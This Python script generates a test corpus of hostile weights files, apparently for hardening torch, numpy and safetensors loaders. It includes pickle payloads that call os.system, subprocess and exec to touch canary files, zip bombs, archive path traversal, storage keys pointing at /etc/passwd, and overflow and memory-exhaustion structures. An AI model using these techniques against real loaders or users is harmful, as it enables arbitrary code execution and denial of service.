"""Writes weights files that try to run code, or to take time or memory, when they are read.

    python make_hostile.py FOLDER CANARIES

Each file is named by its kind. A file that runs anything makes a file of the same name in the folder ``CANARIES``. The
script needs Python's standard library only, and runs none of what it writes.
"""

import json
import os
import pickle
import random
import struct
import sys
import tarfile
import zipfile

FOLDER, CANARIES = sys.argv[1:3]
MAGIC = 0x1950A86A20F9469CFC6C


def text(value):
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def named(module, name, protocol=2):
    if protocol >= 4:
        return text(module) + text(name) + b"\x93"
    return b"c" + f"{module}\n{name}\n".encode()


def int4(value):
    return b"J" + struct.pack("<i", value)


def long8(value):
    raw = value.to_bytes(12, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def command(name):
    return f"touch {CANARIES}/{name}"


def start(protocol):
    return b"\x80" + bytes([protocol])


def archive(name, entries, compress=zipfile.ZIP_STORED):
    """A zip with ``entries``: pairs of name and bytes, in their order."""
    path = os.path.join(FOLDER, name + ".pth")
    with zipfile.ZipFile(path, "w", compress, compresslevel=1) as file:
        for entry, content in entries:
            file.writestr(entry, content)
    return path


def zipped(name, program):
    return archive(name, [("archive/data.pkl", program), ("archive/version", b"3\n")])


def raw(name, content):
    path = os.path.join(FOLDER, name + ".pth")
    with open(path, "wb") as file:
        file.write(content)
    return path


def legacy(name, program):
    """torch's older format: a number, a protocol, a system, the content, the keys."""
    begin = [pickle.dumps(each, protocol=2) for each in (MAGIC, 1001, {"little_endian": True})]
    return raw(name, b"".join([*begin, program, pickle.dumps([], protocol=2)]))


def patched(path, old, new, count=1):
    with open(path, "rb") as file:
        content = file.read()
    assert old in content, (path, old)
    raw(os.path.basename(path)[: -len(".pth")], content.replace(old, new, count))


# ------------------------------------------------------------------------------------------------ calls


def calls():
    """Each opcode that calls or imports, with the protocols that have it, in the three containers of torch."""
    system = ("posix", "system")
    for protocol in range(6):
        name = f"reduce_{protocol}"
        zipped(name, start(protocol) + named(*system, protocol) + text(command(name)) + b"\x85R.")
        name = f"reduce_plain_{protocol}"
        raw(name, start(max(protocol, 2)) + named(*system, protocol) + b"(" + text(command(name)) + b"tR.")
        name = f"reduce_legacy_{protocol}"
        legacy(name, start(protocol) + named(*system, protocol) + text(command(name)) + b"\x85R.")
    name = "reduce_text_0"
    zipped(name, f"cposix\nsystem\n(V{command(name)}\ntR.".encode())
    name = "inst"
    zipped(name, f"(V{command(name)}\niposix\nsystem\n.".encode())
    name = "obj"
    zipped(name, b"(" + named("subprocess", "Popen") + b"](" + b"".join(map(text, command(name).split())) + b"eo.")
    words = b"](" + b"".join(map(text, ["touch", f"{CANARIES}/newobj"])) + b"e"
    zipped("newobj", start(2) + named("subprocess", "Popen") + words + b"\x85\x81.")
    words = b"](" + b"".join(map(text, ["touch", f"{CANARIES}/newobj_ex"])) + b"e"
    zipped("newobj_ex", start(4) + named("subprocess", "Popen", 4) + words + b"\x85}\x92.")
    for number, (module, cls) in enumerate([("argparse", "Namespace"), ("collections", "OrderedDict")]):
        # An object whose __setstate__ is replaced by its first state, and which is called with the second one.
        name = f"build_setstate_{number}"
        state = b"}" + text("__setstate__") + named(*system) + b"s"
        zipped(name, start(2) + named(module, cls) + b")\x81" + state + b"b" + text(command(name)) + b"b.")
    name = "build_items"
    state = b"}" + text("items") + named(*system) + b"s"
    zipped(name, start(2) + named("collections", "OrderedDict") + b")R" + state + b"b.")
    name = "build_type"
    state = b"}" + text("__new__") + named(*system) + b"s"
    zipped(name, start(2) + named("argparse", "Namespace") + state + b"b" + text(command(name)) + b"\x85R.")
    name = "build_slots"
    zipped(name, start(2) + named("collections", "OrderedDict") + b")R" + b"N" + state + b"\x86b.")
    for size, code in ((1, b"\x82\x01"), (2, b"\x83\x01\x01"), (4, b"\x84\x01\x01\x01\x00")):
        zipped(f"extension_{size}", start(2) + code + text(command(f"extension_{size}")) + b"\x85R.")
    zipped("persistent_text", b"Ptouch me\n.")
    program = start(2) + b"(" + text("storage") + named(*system) + text(command("persistent")) + text("cpu") + b"K\x01tQ."
    zipped("persistent", program)
    program = start(2) + b"(" + text("module") + named("torch.nn", "Linear") + text("x.py") + text("import os") + b"tQ."
    zipped("persistent_module", program)
    for number, (module, function, argument) in enumerate(
        [
            ("builtins", "exec", "open('{}', 'w')"),
            ("builtins", "eval", "open('{}', 'w')"),
            ("__builtin__", "eval", "open('{}', 'w')"),
            ("os", "system", "touch {}"),
            ("subprocess", "check_output", "touch"),
            ("torch.utils.collect_env", "run", "touch {}"),
            ("torch.serialization", "load", "{}"),
            ("torch", "load", "{}"),
            ("torch.jit", "load", "{}"),
            ("numpy", "load", "{}"),
            ("pickle", "loads", "{}"),
            ("runpy", "run_path", "{}"),
            ("ctypes", "CDLL", "{}"),
            ("importlib", "import_module", "antigravity"),
            ("builtins", "__import__", "antigravity"),
            ("builtins", "getattr.__self__.exec", "open('{}', 'w')"),
            ("torch._utils", "_rebuild_tensor_v2.__globals__", "{}"),
            ("flsys_weights", "os.system", "touch {}"),
            ("flsys_weights", "_Call", "touch {}"),
            ("__main__", "os.system", "touch {}"),
            ("sys", "modules", "{}"),
            ("", "", "{}"),
        ]
    ):
        name = f"global_{number:02}_{module}.{function}".replace(".", "-")
        argument = argument.format(f"{CANARIES}/{name}")
        zipped(name, start(4) + named(module, function, 4) + text(argument) + b"\x85R.")


# ------------------------------------------------------------------------------------------------ memo and sizes


def memo():
    name = "memo_stack_global"
    program = text("posix") + b"\x94" + text("system") + b"\x94" + b"00h\x00h\x01\x93" + text(command(name)) + b"\x85R."
    zipped(name, start(4) + program)
    name = "memo_overlap"
    program = text("collections") + b"q\x00" + text("posix") + b"p0\n" + b"00" + b"g0\n" + text("system") + b"\x93"
    zipped(name, start(4) + program + text(command(name)) + b"\x85R.")
    zipped("memo_huge_index", start(2) + b"Nr" + struct.pack("<I", 60_000_000) + b".")
    zipped("memo_largest_index", start(2) + b"Nr" + struct.pack("<I", 0xFFFFFFFF) + b".")
    zipped("memo_index_of_digits", start(2) + b"Np" + b"9" * 100_000 + b"\n.")
    zipped("memo_missing", start(2) + b"j\xff\xff\xff\x7f.")


def sizes():
    for name, code in (
        ("bytes8", b"\x8e"),
        ("unicode8", b"\x8d"),
        ("bytearray8", b"\x96"),
        ("frame", b"\x95"),
    ):
        for bits in (33, 62):
            zipped(f"size_{name}_{bits}", start(5) + code + struct.pack("<Q", 1 << bits) + b"N.")
            raw(f"size_{name}_{bits}_plain", start(5) + code + struct.pack("<Q", 1 << bits) + b"N.")
    zipped("size_long4", start(2) + b"\x8b" + struct.pack("<i", 0x7FFFFFFF) + b"N.")
    zipped("size_digits", b"I" + b"9" * 2_000_000 + b"\n.")
    zipped("size_bytearray_call", start(2) + named("builtins", "bytearray") + long8(6 << 30) + b"\x85R.")
    zipped("size_bytes_call", start(2) + named("builtins", "bytes") + long8(1 << 40) + b"\x85R.")
    zipped("size_range", start(2) + named("builtins", "list") + named("builtins", "range") + long8(10**12) + b"\x85R\x85R.")
    zipped("next_buffer", start(5) + b"\x97\x98.")


def shapes_of_containers():
    zipped("deep_tuples", start(2) + b"N" + b"\x85" * 1_000_000 + b".")
    zipped("deep_lists", start(2) + b"]" * 1_000_000 + b"a" * 999_999 + b".")
    zipped("deep_key", start(2) + b"}N" + b"\x85" * 500_000 + b"Ns.")
    zipped("deep_dicts", start(2) + (b"}" + text("k")) * 100_000 + b"N" + b"s" * 100_000 + b".")
    zipped("marks", start(2) + b"(" * 3_000_000 + b"N.")
    self_reference = start(2) + b"]q\x00(" + b"h\x00" * 10 + b"e."
    zipped("endless_list", self_reference)
    zipped("endless_dict", start(2) + b"}q\x00(" + b"".join(text(str(n)) + b"h\x00" for n in range(10)) + b"u.")
    # Ten levels of ten are 10^10 values.
    laughs = start(2) + b"]q\x00(" + b"K\x01" * 10 + b"e0"
    for level in range(12):
        laughs += b"]q" + bytes([level + 1]) + b"(" + (b"h" + bytes([level])) * 10 + b"e0"
    zipped("laughs_lists", laughs + b"h\x0c.")
    tuples = start(2) + b"K\x01q\x000"
    for level in range(60):
        tuples += b"(" + (b"h" + bytes([level])) * 3 + b"tq" + bytes([level + 1]) + b"0"
    zipped("laughs_tuples", tuples + b"h\x3c.")
    zipped("laughs_key", tuples + b"}h\x3cNs.")
    zipped("laughs_set", tuples + named("builtins", "frozenset") + b"]h\x3ca\x85R.")
    # Equal hashes make each insertion as long as the dict.
    equal = b"".join(long8(n * ((1 << 61) - 1)) + b"N" for n in range(60_000))
    zipped("equal_hashes", start(2) + b"}(" + equal + b"u.")


# ------------------------------------------------------------------------------------------------ tensors


def tensor(shape, stride, offset, key="0", count=4):
    storage = (
        b"("
        + text("storage")
        + named("torch", "FloatStorage")
        + text(key)
        + text("cpu")
        + int4(count)
        + b"tQ"
    )
    numbers = [b"(" + b"".join(map(long8, each)) + b"t" for each in (shape, stride)]
    call = named("torch._utils", "_rebuild_tensor_v2") + b"(" + storage + long8(offset) + b"".join(numbers)
    return start(2) + b"}" + text("head.weight") + call + b"\x89}tRs."


def tensors():
    for name, shape, stride, offset in (
        ("stride_far", (2, 2), (1 << 40, 1), 0),
        ("stride_negative", (2, 2), (-2, 1), 2),
        ("stride_overflow", (3,), (1 << 61,), 0),
        ("stride_overflow_product", (1 << 31, 1 << 31), (1 << 32, 1 << 32), 0),
        ("stride_zero", (1 << 20, 1 << 20), (0, 0), 0),
        ("offset_far", (2, 2), (2, 1), 1 << 50),
        ("offset_negative", (2, 2), (2, 1), -(1 << 20)),
        ("offset_wide", (2, 2), (2, 1), 1 << 80),
        ("shape_negative", (-2, -2), (2, 1), 0),
        ("shape_many_dimensions", (1,) * 5000, (1,) * 5000, 0),
        ("shape_and_stride_differ", (2, 2), (1,), 0),
    ):
        archive(f"tensor_{name}", [("archive/data.pkl", tensor(shape, stride, offset)), ("archive/data/0", bytes(16))])
    for name, key in (("absolute", "/etc/passwd"), ("parent", "../../../../etc/passwd"), ("missing", "1")):
        program = tensor((2, 2), (2, 1), 0, key)
        archive(f"tensor_key_{name}", [("archive/data.pkl", program), ("archive/data/0", bytes(16))])
    negative = b"".join(pickle.dumps(each, protocol=2) for each in (MAGIC, 1001, {"little_endian": True}))
    keys = pickle.dumps(["0"], protocol=2)
    for name, count in (("negative", -5), ("huge", 1 << 61)):
        content = negative + tensor((2, 2), (2, 1), 0) + keys + struct.pack("<q", count) + bytes(16)
        raw(f"tensor_legacy_count_{name}", content)


# ------------------------------------------------------------------------------------------------ storages in pickles


def storages_in_pickles():
    """Pickles with files of torch's older format for their storages, as ``pickle.dump`` writes tensors."""

    def holding(inner):
        return named("torch.storage", "_load_from_bytes") + b"B" + struct.pack("<I", len(inner)) + inner + b"\x85R"

    def hostile(name):
        return start(2) + named("posix", "system") + text(command(name)) + b"\x85R."

    begin = b"".join(pickle.dumps(each, protocol=2) for each in (MAGIC, 1001, {"little_endian": True}))
    storage = start(2) + b"(" + text("storage") + named("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x04NtQ."
    keys = pickle.dumps(["0"], protocol=2)
    name = "storage_call"
    raw(name, start(3) + holding(hostile(name)) + b".")
    name = "storage_content"
    raw(name, start(3) + holding(begin + hostile(name) + keys) + b".")
    name = "storage_keys"
    raw(name, start(3) + holding(begin + storage + hostile(name)) + b".")
    inner = hostile("storage_nested")
    for _ in range(3_000):
        inner = start(3) + holding(inner) + b"."
    raw("storage_nested", inner)
    raw("storage_of_text", start(3) + named("torch.storage", "_load_from_bytes") + text("x" * 10_000) + b"\x85R.")
    raw("storage_without_bytes", start(3) + named("torch.storage", "_load_from_bytes") + b")R.")
    raw("storage_of_dict", start(3) + holding(begin + pickle.dumps({}, protocol=2) + pickle.dumps([], protocol=2)) + b".")
    for name, count in (("negative", -5), ("huge", 1 << 61), ("missing", 4)):
        raw(f"storage_count_{name}", start(3) + holding(begin + storage + keys + struct.pack("<q", count)) + b".")
    good = begin + storage + keys + struct.pack("<q", 4) + bytes(16)
    again = named("torch.storage", "_load_from_bytes") + b"h\x00\x85R0"
    first = start(3) + b"B" + struct.pack("<I", len(good)) + good + b"q\x000"
    raw("storage_many_times", first + again * 100_000 + b"N.")
    long = begin + start(2) + b"N0" * 1_000_000 + storage[2:] + keys + struct.pack("<q", 4) + bytes(16)
    first = start(3) + b"B" + struct.pack("<I", len(long)) + long + b"q\x000"
    raw("storage_of_many_instructions", first + again * 1_000 + b"N.")
    archive("storage_deflated", [("archive/data.pkl", start(3) + holding(good) + b".")], zipfile.ZIP_DEFLATED)


# ------------------------------------------------------------------------------------------------ archives


def archives():
    good = start(2) + b"}" + text("a") + b"K\x01s."

    def hostile(name):
        return start(2) + named("posix", "system") + text(command(name)) + b"\x85R."

    random.seed(1)
    name = "zip_duplicate"
    archive(name, [("archive/data.pkl", good), ("archive/data.pkl", hostile(name))])
    name = "zip_duplicate_other_order"
    archive(name, [("archive/data.pkl", hostile(name)), ("archive/data.pkl", good)])
    name = "zip_two_folders"
    archive(name, [("archive/data.pkl", good), ("x/data.pkl", hostile(name))])
    name = "zip_traversal"
    archive(name, [("../../data.pkl", hostile(name)), (f"{CANARIES}/{name}", b"x"), ("../" * 9 + CANARIES, b"x")])
    name = "zip_nested"
    inner = zipped(name, hostile(name))
    with open(inner, "rb") as file:
        content = file.read()
    archive(name, [("archive/data.pkl", content), ("archive/inner.pth", content)])
    name = "zip_after_pickle"  # begins as a pickle and ends as a zip
    raw(name, hostile(name) + content)
    name = "zip_then_pickle"
    raw(name, content + hostile(name))
    name = "zip_local_size"  # the local header has other sizes than the directory
    path = zipped(name, hostile(name))
    size = struct.pack("<II", len(hostile(name)), len(hostile(name)))
    patched(path, size, struct.pack("<II", 7, 1 << 30))
    name = "zip_local_name"
    patched(zipped(name, hostile(name)), b"archive/data.pkl", b"archive/data.txt")
    name = "zip_encrypted"
    head = b"PK\x01\x02\x14\x03\x14\x00"
    patched(zipped(name, hostile(name)), head + b"\x00\x00", head + b"\x01\x00")
    name = "zip_method"
    patched(zipped(name, hostile(name)), head + b"\x00\x00\x00\x00", head + b"\x00\x00\x63\x00")
    name = "zip_directory_size"
    path = zipped(name, hostile(name))
    with open(path, "rb") as file:
        content = bytearray(file.read())
    end = content.rfind(b"PK\x05\x06")
    struct.pack_into("<HHII", content, end + 8, 0xFFFF, 0xFFFF, 0xFFFFFFF0, 0xFFFFFFF0)
    raw(name, bytes(content))
    name = "zip_zip64"
    large = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1 << 60, 1 << 60, 1 << 62, 1 << 62)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    raw(name, bytes(content[:end]) + large + locator + bytes(content[end:]))
    name = "zip_bomb"
    program = start(2) + b"B" + struct.pack("<I", 100 << 20) + bytes(100 << 20) + b"."
    archive(name, [("archive/data.pkl", program)], zipfile.ZIP_DEFLATED)
    name = "zip_bomb_declared_small"  # the directory declares 1,000 bytes of 100 MB
    path = archive(name, [("archive/data.pkl", program)], zipfile.ZIP_DEFLATED)
    patched(path, struct.pack("<I", (100 << 20) + 8), struct.pack("<I", 1_000), 2)
    name = "zip_many_overlapping"
    path = archive(name, [("archive/data.pkl", good), ("archive/data/0", bytes(20_000_000))], zipfile.ZIP_DEFLATED)
    overlap(path, 5_000)
    name = "zip_of_arrays_bomb"
    array = numpy("<f4", (10_000_000,)) + bytes(40_000_000)
    archive(name, [(f"{n}.npy", array) for n in range(2)], zipfile.ZIP_DEFLATED)
    name = "tar_of_torch"
    with tarfile.open(os.path.join(FOLDER, name + ".pth"), "w") as file:
        for entry in ("sys_info", "pickle", "tensors", "storages"):
            path = os.path.join(FOLDER, "part")
            with open(path, "wb") as part:
                part.write(hostile(name))
            file.add(path, entry)
            os.remove(path)
    name = "legacy_first_pickle"
    raw(name, hostile(name) * 5)
    name = "legacy_keys"
    begin = [pickle.dumps(each, protocol=2) for each in (MAGIC, 1001, {}, {})]
    raw(name, b"".join([*begin, hostile(name)]))
    name = "legacy_protocol"
    raw(name, pickle.dumps(MAGIC, protocol=2) + hostile(name) * 3)
    name = "random"
    raw(name, start(2) + random.Random(5).randbytes(100_000))
    name = "truncated"
    raw(name, hostile(name)[:-20])


def overlap(path, times):
    """Repeats the last entry of the directory: many entries with the same data."""
    with open(path, "rb") as file:
        content = file.read()
    end = content.rfind(b"PK\x05\x06")
    last = content.rfind(b"PK\x01\x02", 0, end)
    first = struct.unpack_from("<I", content, end + 16)[0]
    directory = content[first:last] + content[last:end] * times
    tail = bytearray(content[end:])
    struct.pack_into("<HHII", tail, 8, times + 1, times + 1, len(directory), first)
    raw(os.path.basename(path)[: -len(".pth")], content[:first] + directory + bytes(tail))


# ------------------------------------------------------------------------------------------------ other formats


def numpy(kind, shape):
    header = f"{{'descr': {kind!r}, 'fortran_order': False, 'shape': {shape!r}, }}"
    header += " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()


def others():
    name = "npz_objects"
    program = start(2) + named("posix", "system") + text(command(name)) + b"\x85R."
    archive(name, [("a.npy", numpy("|O", (1,)) + program)])
    raw("npy_objects", numpy("|O", (1,)) + program)
    archive("npz_record_of_objects", [("a.npy", numpy([("a", "|O")], (1,)) + program)])
    archive("npz_huge", [("a.npy", numpy("<f4", (1 << 40, 1 << 20)) + bytes(16))])
    archive("npz_negative", [("a.npy", numpy("<f4", (-4, 1 << 40)) + bytes(16))])
    run = f"__import__('os').system('{command('npz_header')}')"
    calling = f"{{'descr': {run}, 'fortran_order': False, 'shape': (1,)}}\n"
    archive("npz_header", [("a.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(calling)) + calling.encode())])
    nested = "(" * 30_000 + ")" * 30_000
    archive("npz_deep_header", [("a.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", len(nested)) + nested.encode())])
    for name, offsets, shape in (
        ("overlapping", [[0, 16], [8, 24]], [4]),
        ("negative", [[-16, 0]], [4]),
        ("huge", [[0, 1 << 62]], [1 << 60]),
        ("backwards", [[16, 0]], [4]),
        ("text", [["0", "16"]], [4]),
    ):
        header = {f"w{n}": {"dtype": "F32", "shape": shape, "data_offsets": each} for n, each in enumerate(offsets)}
        safetensors(name, json.dumps(header).encode(), bytes(24))
    safetensors("header_of_100_MB", b'{"a":' + b" " * 100_000_000 + b"1}", b"")
    keys = ",".join(f'"{n}":{{}}' for n in range(1_500_000))
    safetensors("header_of_many_keys", f"{{{keys}}}".encode(), b"")
    safetensors("deep_header", b'{"a":' + b"[" * 200_000 + b"]" * 200_000 + b"}", b"")
    raw("safetensors_length", struct.pack("<Q", (1 << 64) - 1) + b'{"a":1}')
    entry = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    safetensors("all_the_same", json.dumps({f"w{n}": entry for n in range(100_000)}).encode(), bytes(16))
    entry = {"dtype": "F32", "shape": [1 << 18], "data_offsets": [0, 1 << 20]}
    safetensors("amplified", json.dumps({f"w{n}": entry for n in range(5_000)}).encode(), bytes(1 << 20))


def safetensors(name, header, data):
    raw("safetensors_" + name, struct.pack("<Q", len(header)) + header + data)


if __name__ == "__main__":
    for write in (calls, memo, sizes, shapes_of_containers, tensors, storages_in_pickles, archives, others):
        write()
